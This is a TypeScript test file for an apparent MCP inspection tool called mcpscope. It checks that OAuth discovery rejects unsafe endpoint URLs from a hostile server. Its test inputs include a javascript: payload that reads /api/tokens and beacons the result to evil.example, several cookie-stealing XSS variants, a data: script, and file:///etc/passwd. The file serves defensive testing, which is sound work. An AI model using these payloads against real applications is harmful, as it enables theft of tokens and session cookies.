// A hostile MCP server answers 401 and points at an authorization server whose metadata names a `javascript:`
// (or data:, file:, relative...) endpoint. Navigated to with location.assign, such an authorization URL would run
// on mcpscope's origin. Discovery refuses each with `unsafe_url`, a finding, and nothing sent to it.
import { beforeEach, describe, expect, it } from 'vitest';
import { OAuthClientFlow, OAuthFlowError } from '@/lib/oauth';
import { EMPTY_ALLOW_LIST, httpUrlRule, parseAllowList, type TargetPolicy } from '@/lib/security';
import type { HttpRule } from '@/lib/url-policy';
import { localServerForSuite, sendJson } from '../fixtures/http-servers';
import { findings, newFlow, phaseSteps } from './helpers';
import { tempStorePerTest } from './per-test';

let seen: string[] = [];
/** What the protected resource metadata and the authorization server metadata say, per test. */
let resourceMetadata: (origin: string) => Record<string, unknown>;
let serverMetadata: (origin: string) => Record<string, unknown>;
let challenge: (origin: string) => string;

const PAYLOAD = 'javascript:fetch("/api/tokens").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))//';

function goodServerMetadata(o: string): Record<string, unknown> {
  return {
    issuer: `${o}/as`,
    authorization_endpoint: `${o}/as/authorize`,
    token_endpoint: `${o}/as/token`,
    registration_endpoint: `${o}/as/register`,
    response_types_supported: ['code'],
    code_challenge_methods_supported: ['S256'],
    token_endpoint_auth_methods_supported: ['none'],
  };
}

const origin = localServerForSuite(({ method, url, body }, res) => {
  seen.push(`${method} ${url.pathname}`);
  if (url.pathname === '/.well-known/oauth-protected-resource/mcp') return sendJson(res, 200, resourceMetadata(url.origin));
  if (url.pathname === '/.well-known/oauth-authorization-server/as') return sendJson(res, 200, serverMetadata(url.origin));
  if (url.pathname === '/as/register' && method === 'POST') {
    return sendJson(res, 201, { ...(JSON.parse(body) as object), client_id: 'hostile-client', token_endpoint_auth_method: 'none' });
  }
  if (url.pathname === '/mcp') {
    res.writeHead(401, { 'www-authenticate': challenge(url.origin) }).end();
    return;
  }
  sendJson(res, 404, { error: 'not_found' });
});

const store = tempStorePerTest();
beforeEach(() => {
  seen = [];
  resourceMetadata = (o) => ({ resource: `${o}/mcp`, authorization_servers: [`${o}/as`] });
  serverMetadata = goodServerMetadata;
  challenge = (o) => `Bearer resource_metadata="${o}/.well-known/oauth-protected-resource/mcp"`;
});

function makeFlow(httpUrls?: HttpRule) {
  return newFlow(store().store, `${origin()}/mcp`, { owner: 'o', ...(httpUrls ? { httpUrls } : {}) });
}

async function refusal(flow: OAuthClientFlow): Promise<OAuthFlowError> {
  const error = await flow.startAuthorization().then(
    (request) => new Error(`an authorization URL was produced: ${request.authorizationUrl}`),
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(OAuthFlowError);
  return error as OAuthFlowError;
}

describe('discovery refuses metadata URLs that are not https/http', () => {
  const cases: Array<{ field: string; value: string; scheme: string }> = [
    { field: 'authorization_endpoint', value: PAYLOAD, scheme: 'javascript:' },
    { field: 'authorization_endpoint', value: 'JAVASCRIPT:alert(document.cookie)//', scheme: 'javascript:' },
    { field: 'authorization_endpoint', value: 'java\tscript:alert(1)//', scheme: 'javascript:' },
    { field: 'authorization_endpoint', value: ' javascript:alert(1)//', scheme: 'javascript:' },
    { field: 'authorization_endpoint', value: 'data:text/html,<script>fetch("/api/tokens")</script>', scheme: 'data:' },
    { field: 'authorization_endpoint', value: 'vbscript:msgbox(1)', scheme: 'vbscript:' },
    { field: 'token_endpoint', value: 'file:///etc/passwd', scheme: 'file:' },
    { field: 'token_endpoint', value: PAYLOAD, scheme: 'javascript:' },
    { field: 'registration_endpoint', value: PAYLOAD, scheme: 'javascript:' },
    { field: 'jwks_uri', value: 'javascript:alert(1)', scheme: 'javascript:' },
    { field: 'userinfo_endpoint', value: 'data:application/json,{}', scheme: 'data:' },
    { field: 'revocation_endpoint', value: 'file:///tmp/x', scheme: 'file:' },
    { field: 'issuer', value: 'javascript:alert(1)', scheme: 'javascript:' },
  ];

  it.each(cases)('$field = $value', async ({ field, value, scheme }) => {
    serverMetadata = (o) => ({ ...goodServerMetadata(o), [field]: value });
    const { flow, log } = makeFlow();
    const error = await refusal(flow);
    expect(error.code).toBe('unsafe_url');
    expect(error.message).toContain(`metadata's ${field}`);
    expect(error.message).toContain(`a ${scheme} URL`);
    const found = findings(log).filter((f) => f.code === 'unsafe_url');
    expect(found.length).toBeGreaterThan(0);
    expect(found[0]!.severity).toBe('error');
    expect(found[0]!.message).toContain(field);
    // The discovery phase failed with the code, and nothing after it ran: no registration, no authorization.
    expect(phaseSteps(log).find((p) => p.name === 'oauth:discovery')).toMatchObject({ status: 'failed' });
    expect(seen.some((s) => s.includes('/as/register'))).toBe(false);
    expect(phaseSteps(log).some((p) => p.name === 'oauth:authorize')).toBe(false);
  });

  it('relative and protocol-relative endpoints would resolve against mcpscope itself: refused', async () => {
    for (const value of ['/api/tokens', '//evil.example/authorize']) {
      serverMetadata = (o) => ({ ...goodServerMetadata(o), authorization_endpoint: value });
      const { flow } = makeFlow();
      const error = await refusal(flow);
      expect(error.code).toBe('unsafe_url');
      expect(error.message).toContain('not an absolute URL');
    }
  });

  it('a null optional endpoint is absent, not refused', async () => {
    serverMetadata = (o) => ({ ...goodServerMetadata(o), jwks_uri: null, userinfo_endpoint: null });
    const { flow } = makeFlow();
    const request = await flow.startAuthorization();
    expect(new URL(request.authorizationUrl).pathname).toBe('/as/authorize');
  });
});

describe('the protected resource metadata and the challenge', () => {
  it('refuses a javascript: authorization server before reading anything from it', async () => {
    resourceMetadata = (o) => ({ resource: `${o}/mcp`, authorization_servers: [PAYLOAD] });
    const { flow, log } = makeFlow();
    const error = await refusal(flow);
    expect(error.code).toBe('unsafe_url');
    expect(error.message).toContain('authorization_servers');
    expect(findings(log).map((f) => f.code)).toContain('unsafe_url');
    expect(seen.filter((s) => s.includes('oauth-authorization-server'))).toEqual([]);
  });

  it('skips a data: resource_metadata URL in the challenge with a finding, and reads the well-known one', async () => {
    challenge = () => 'Bearer resource_metadata="data:application/json,{\\"authorization_servers\\":[\\"javascript:alert(1)\\"]}"';
    const { flow, log } = makeFlow();
    const discovery = await flow.discover({ wwwAuthenticate: challenge(origin()) });
    expect(discovery.resourceMetadataUrl).toBe(`${origin()}/.well-known/oauth-protected-resource/mcp`);
    expect(discovery.authorizationServerUrl).toBe(`${origin()}/as`);
    const finding = findings(log).find((f) => f.code === 'unsafe_url');
    expect(finding?.message).toContain('resource_metadata');
    expect(finding?.message).toContain('data:');
  });
});

describe('plain http by mode (lib/security httpUrlRule)', () => {
  const hosted = (allowed: string): TargetPolicy => ({
    mode: 'hosted',
    allow: allowed ? parseAllowList(allowed).allow : EMPTY_ALLOW_LIST,
    selfOrigins: [],
  });

  it('local mode: an http authorization server works (the person’s own development servers)', async () => {
    const { flow } = makeFlow(httpUrlRule({ mode: 'local', allow: EMPTY_ALLOW_LIST, selfOrigins: [] }));
    const request = await flow.startAuthorization();
    expect(request.authorizationUrl.startsWith(`${origin()}/as/authorize?`)).toBe(true);
  });

  it('hosted mode: an http authorization server on a host nobody allowed is refused', async () => {
    const { flow, log } = makeFlow(httpUrlRule(hosted('')));
    const error = await refusal(flow);
    expect(error.code).toBe('unsafe_url');
    expect(error.message).toContain('plain http: URL');
    expect(error.message).toContain('MCPSCOPE_ALLOWED_TARGETS');
    expect(findings(log).map((f) => f.code)).toContain('unsafe_url');
  });

  it('hosted mode: an allow-listed http authorization server works', async () => {
    const { flow } = makeFlow(httpUrlRule(hosted('127.0.0.1/32')));
    const request = await flow.startAuthorization();
    expect(new URL(request.authorizationUrl).pathname).toBe('/as/authorize');
  });
});
